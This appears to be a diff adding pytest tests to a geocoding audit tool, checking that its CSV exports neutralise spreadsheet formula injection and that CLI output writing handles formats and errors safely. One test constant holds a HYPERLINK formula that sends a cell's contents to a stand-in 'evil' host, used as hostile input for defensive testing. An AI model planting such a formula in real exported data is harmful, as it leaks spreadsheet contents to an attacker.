@@ -11,6 +11,7 @@ import io
 import json
 import os
 import re
+from dataclasses import replace
 from html.parser import HTMLParser
 from pathlib import Path
 
@@ -156,6 +157,49 @@ def test_csv_golden(rows):
     assert records[2]["id"] == "" and records[2]["margin"] == ""
 
 
+FORMULA = '=HYPERLINK("http://evil/?"&A1,"x")'
+
+
+def formula_doc() -> GeocodedDocument:
+    text = f"{FORMULA} and boats left Tripoli. +Rome said @once."
+    cut = text.index("+Rome")
+    # The sentences are given: the helper would split at the URL's "?".
+    return GeocodedDocument("-docs/=a.txt", text, ((0, cut - 1), (cut, len(text))), tuple(
+        replace(m, sentence=int(m.start >= cut)) for m in (
+        make_mention("Tripoli", text, (TRIPOLI[0], "=Tripoli", "LY", 32.88743, -13.18733), confidence=0.6,
+                     alternatives=[Candidate(TARABULUS.id, "@Tarabulus", "LY", 32.6867, 13.5154, 0.7, "admin")],
+                     evidence="-population 1.3M"),
+        make_mention("Rome", text, ("geonames:3169070", "Rome", "IT", 41.89193, 12.51133), confidence=0.9,
+                     evidence="\tcapital"),
+    )))
+
+
+def test_csv_guards_formulas():
+    records = list(csv.DictReader(io.StringIO(au.to_csv(au.audit([formula_doc()])))))
+    tripoli = next(r for r in records if r["text"] == "Tripoli")
+    # Text cells that a spreadsheet would run as a formula get a leading "'" (OWASP).
+    assert tripoli["sentence"] == f"'{FORMULA} and boats left Tripoli."
+    assert (tripoli["doc"], tripoli["name"], tripoli["evidence"]) == ("'-docs/=a.txt", "'=Tripoli", "'-population 1.3M")
+    rome = next(r for r in records if r["text"] == "Rome")
+    assert rome["sentence"] == "'+Rome said @once." and rome["evidence"] == "'\tcapital"
+    # Numbers stay numbers: a negative margin or longitude is data, not a formula.
+    assert (tripoli["margin"], tripoli["lon"]) == ("-0.100", "-13.18733")
+    for r in records:
+        assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in r.values())
+        assert all(not v.startswith("-") for k, v in r.items() if k not in ("margin", "lon", "lat"))
+
+
+def test_geocode_csv_guards_formulas():
+    # geomig.writers' CSV (geocode --format csv) follows the same rule.
+    from geomig.writers import render
+
+    records = list(csv.DictReader(io.StringIO("".join(render([formula_doc()], "csv")))))
+    assert [(r["doc"], r["name"], r["evidence"], r["lon"]) for r in records] == [
+        ("'-docs/=a.txt", "'=Tripoli", "'-population 1.3M", "-13.18733"),
+        ("'-docs/=a.txt", "Rome", "'\tcapital", "12.51133"),
+    ]
+
+
 def test_writers_are_deterministic():
     assert au.to_json(au.audit(sample_docs())) == au.to_json(au.audit(list(reversed(sample_docs()))))
 
@@ -299,6 +343,74 @@ def test_cli_html_to_file(cli, tmp_path):
     assert page.startswith("<!DOCTYPE html>") and "<script" not in page and "&lt;script&gt;" in page
     assert re.search(r'<mark id="d0-m\d+" class="\w+" title="[^"]*">Tripoli</mark>', page)
     assert "Wrote" in result.stderr
+
+
+def test_cli_csv_of_a_hostile_document(cli, tmp_path):
+    story = tmp_path / "story.txt"
+    story.write_text(f"{FORMULA} and boats left Tripoli for Lampedusa.\n")
+    out = tmp_path / "review.csv"
+    result = cli("audit", story, "-o", out)
+    assert result.exit_code == 0, result.output
+    records = list(csv.DictReader(io.StringIO(out.read_text())))
+    tripoli = next(r for r in records if r["text"] == "Tripoli")
+    assert tripoli["sentence"] == f"'{FORMULA} and boats left Tripoli for Lampedusa."
+    assert not any(v.startswith(("=", "+", "@")) for r in records for v in r.values())
+
+
+@pytest.mark.parametrize("name, fmt, first", [
+    ("out.csv", None, "doc,start,end"),
+    ("out.JSON", None, "{"),
+    ("out.htm", None, "<!DOCTYPE html>"),
+    ("nested/deeper/out.html", None, "<!DOCTYPE html>"),     # missing directories are made
+    ("out.txt", "table", "geomig audit:"),
+    ("out", "json", "{"),
+])
+def test_cli_output_format_from_suffix(cli, tmp_path, name, fmt, first):
+    story = tmp_path / "s.txt"
+    story.write_text("Rain in Tripoli.\n")
+    out = tmp_path / name
+    result = cli("audit", story, "-o", out, *(["--format", fmt] if fmt else []))
+    assert result.exit_code == 0, result.output
+    assert out.read_text().lstrip().startswith(first)
+    assert [p.name for p in out.parent.iterdir() if p.name.endswith(".tmp")] == []
+
+
+@pytest.mark.parametrize("name", ["out.txt", "out", "out.pdf"])
+def test_cli_unknown_output_suffix_is_a_usage_error(cli, tmp_path, name):
+    story = tmp_path / "s.txt"
+    story.write_text("Rain in Tripoli.\n")
+    result = cli("audit", story, "-o", tmp_path / name)
+    assert result.exit_code == 2
+    message = " ".join(result.output.replace("│", " ").split())
+    assert ": cannot tell the format from" in message
+    assert "use .csv, .json, .html or .htm, or give --format" in message
+    assert not (tmp_path / name).exists()
+
+
+def test_cli_output_is_atomic(cli, tmp_path, monkeypatch):
+    story = tmp_path / "s.txt"
+    story.write_text("Rain in Tripoli.\n")
+    out = tmp_path / "review.csv"
+    out.write_text("yesterday's review\n")
+
+    def full_disk(src, dst):
+        raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr(os, "replace", full_disk)
+    result = cli("audit", story, "-o", out)
+    assert result.exit_code == 1
+    assert result.stderr == f"Error: cannot write {out}: No space left on device\n"
+    assert out.read_text() == "yesterday's review\n"        # the old file is untouched
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["review.csv", "s.txt"]
+
+
+def test_cli_unwritable_output_is_one_line(cli, tmp_path):
+    story = tmp_path / "s.txt"
+    story.write_text("Rain in Tripoli.\n")
+    result = cli("audit", story, "-o", story / "out.csv")      # a file is not a directory
+    assert result.exit_code == 1
+    assert result.stderr.startswith(f"Error: cannot write {story / 'out.csv'}: ")
+    assert len(result.stderr.splitlines()) == 1
 
 
 @pytest.mark.parametrize("args, code, message", [
